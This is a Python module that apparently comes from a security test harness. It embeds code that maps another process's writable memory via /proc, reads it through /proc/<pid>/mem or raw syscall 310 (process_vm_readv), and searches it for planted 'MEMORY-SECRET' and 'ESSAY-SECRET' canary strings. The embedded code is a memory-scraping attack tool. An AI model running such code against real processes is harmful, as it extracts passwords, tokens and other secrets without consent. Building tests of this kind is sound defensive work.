"""Source that looks for bytes in the memory of a process, for attacks that can read it in some way."""

from __future__ import annotations

from typing import Final

SEARCH: Final = r'''
import re

def regions(pid):
    """Where the writable memory of `pid` lies."""
    for line in open(f"/proc/{pid}/maps"):
        span, rights = line.split()[:2]
        if "rw" in rights and "[v" not in line:
            start, end = (int(x, 16) for x in span.split("-"))
            yield from ((at, min(1 << 22, end - at)) for at in range(start, end, 1 << 22))

def search(pid, pattern, read):
    """(address, bytes) of all that matches, read in pieces by `read(address, size)`."""
    for at, size in regions(pid):
        try:
            piece = read(at, size)
        except (OSError, OverflowError, ValueError):
            continue
        for found in re.finditer(pattern, piece):
            yield at + found.start(), found.group()

def vectors(address, size, buffer):
    """The two struct iovec of process_vm_readv and process_vm_writev."""
    local = struct.pack("QQ", ctypes.addressof(buffer), size)
    return local, 1, struct.pack("QQ", address, size), 1

def by_mem(pid):
    file = open(f"/proc/{pid}/mem", "rb", 0)
    return lambda at, size: (file.seek(at), file.read(size))[1]

def by_call(pid):
    def read(at, size):
        buffer = ctypes.create_string_buffer(size)
        got = syscall(310, pid, *vectors(at, size, buffer), 0)
        return buffer.raw[:got]
    return read
'''
SECRET: Final = "rb'MEMORY-SECRET-[0-9a-f]{24}'"
ESSAY: Final = "rb'ESSAY-SECRET-[0-9a-f]{24}'"
